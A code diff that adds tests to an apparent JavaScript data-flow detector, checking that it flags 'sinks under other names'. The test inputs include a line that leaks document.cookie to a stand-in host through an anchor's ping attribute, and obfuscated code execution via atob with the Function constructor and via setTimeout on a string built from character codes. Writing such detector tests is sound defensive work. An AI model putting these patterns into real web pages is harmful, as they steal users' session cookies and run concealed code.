@@ -132,3 +132,17 @@ describe('flow finder: members of a flow', () => {
     ]);
   });
 });
+
+describe('flow finder: sinks under other names', () => {
+  const cases: Readonly<Record<string, readonly string[]>> = {
+    [`const a = document.createElement('a'); a.ping = '//x.test/?' + document.cookie;`]: [
+      'cookie wholeCookie -> link',
+    ],
+    [`Function.prototype.constructor(atob(m))();`]: ['decoded -> code'],
+    [`setTimeout(codes.map((c) => String.fromCharCode(c)).join(''), 9);`]: ['decoded -> code'],
+    [`setTimeout(codes.map((c) => f(c)), 9);`]: [],
+  };
+  for (const [code, flows] of Object.entries(cases)) {
+    it(`${flows.join(', ') || 'nothing'}: ${code}`, () => assert.deepEqual(flowsIn(code), flows));
+  }
+});
